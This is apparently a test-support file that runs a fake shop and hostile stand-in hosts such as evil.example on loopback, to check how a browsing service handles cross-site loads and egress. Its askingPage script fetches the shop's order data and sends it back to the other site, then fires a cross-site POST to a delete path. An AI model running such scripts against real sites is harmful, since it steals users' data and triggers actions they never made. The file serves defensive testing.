import { createServer, type IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'
import { openDnsServer } from '#test/support/servers/dns-server.ts'
import { articlePage } from '#test/support/sites/fixture-site.ts'

/** A request that a server of the shop got. */
export interface SeenRequest {
  /** Without the port. */
  host: string
  path: string
  /** The port of the client. */
  port: number | undefined
  headers: IncomingHttpHeaders
}

export interface Shop extends AsyncDisposable {
  /** The URL of a path at a host. */
  at: (host: string, path: string) => string
  seen: SeenRequest[]
  /** For a service that reaches the shop. */
  settings: Readonly<Record<string, string>>
}

const own = ['www.shop.example', 'api.shop.example']
const others = ['evil.example', 'shop.example.evil.example', 'other.github.io']

/**
 * A shop with two hosts, and hosts of others, on one loopback server with names of their own. A page of the shop needs the
 * cookie `session=secret`, loads from all hosts, and shows what it got.
 */
export async function openShop(): Promise<Shop> {
  const seen: SeenRequest[] = []
  const server = createServer((request, response) => {
    const [host = ''] = (request.headers.host ?? '').split(':')
    const path = request.url ?? '/'
    seen.push({ host, path, port: request.socket.remotePort, headers: request.headers })
    const target = /^\/to\?(.+)$/.exec(path)?.[1]
    if (target !== undefined) return void response.writeHead(302, { Location: decodeURIComponent(target) }).end()
    if (path.startsWith('/asset')) return void response.setHeader('Access-Control-Allow-Origin', '*').end('')
    // As APIs do that know callers by a header.
    if (path.startsWith('/orders'))
      return void response
        .setHeader('Access-Control-Allow-Origin', '*')
        .end(`orders of ${String(request.headers['x-account'])}`)
    response.setHeader('Content-Type', 'text/html; charset=utf-8')
    if (path.startsWith('/around')) return void response.end(framing(path.slice('/around?'.length)))
    if (path.startsWith('/asks')) return void response.end(askingPage(port()))
    if (path === '/account' && !(request.headers.cookie ?? '').includes('session=secret'))
      return void response.end(
        '<title>Sign in</title><h1>Sign in</h1><form><input type="password"><button>Log in</button></form>',
      )
    response.end(path.startsWith('/loads') ? loadingPage(port()) : articlePage(`the order of ${path}`))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const port = () => (server.address() as AddressInfo).port
  const dns = await openDnsServer(Object.fromEntries([...own, ...others].map((host) => [host, ['127.0.0.1']])))
  return {
    at: (host, path) => `http://${host}:${port()}${path}`,
    seen,
    settings: { DNS_SERVERS: dns.address, EGRESS_ALLOW: `127.0.0.1:${port()}` },
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      await Promise.all([new Promise((resolve) => server.close(resolve)), dns[Symbol.asyncDispose]()])
    },
  }
}

/** Loads something from each host in each way that a page has. */
function loadingPage(port: number): string {
  const loads = [...own, ...others].map((host) => {
    const base = `//${host}:${port}/asset`
    return `<script src="${base}/script"></script><link rel="stylesheet" href="${base}/style"><iframe src="${base}/frame"></iframe>
      <script>
        fetch('${base}/fetch').catch(() => {})
        try { new WebSocket('ws:${base}/socket') } catch {}
        new Worker(URL.createObjectURL(new Blob(["fetch('http:${base}/worker').catch(() => {})"])))
        navigator.sendBeacon('${base}/beacon')
      </script>`
  })
  return articlePage('what a page loads').replace(
    '</body>',
    `${loads.join('')}<p id="cookies"></p>
    <script>document.getElementById('cookies').textContent = 'Scripts read: ' + document.cookie + '.'</script></body>`,
  )
}

const framing = (url: string) =>
  articlePage('what others ask').replace('</body>', `<iframe src="${decodeURIComponent(url)}"></iframe></body>`)

/** Asks the shop in each way that a page of any site has. Tells its own server the orders that it could read. */
function askingPage(port: number): string {
  const shop = `//www.shop.example:${port}`
  return articlePage('what others ask').replace(
    '</body>',
    `<script>
      fetch('${shop}/orders').then((reply) => reply.text()).then((text) => fetch('/told?' + encodeURIComponent(text)))
      fetch('${shop}/asset/delete', { method: 'POST', mode: 'no-cors', body: 'all' })
    </script>
    <script src="${shop}/asset/script"></script><iframe src="${shop}/asset/frame"></iframe></body>`,
  )
}
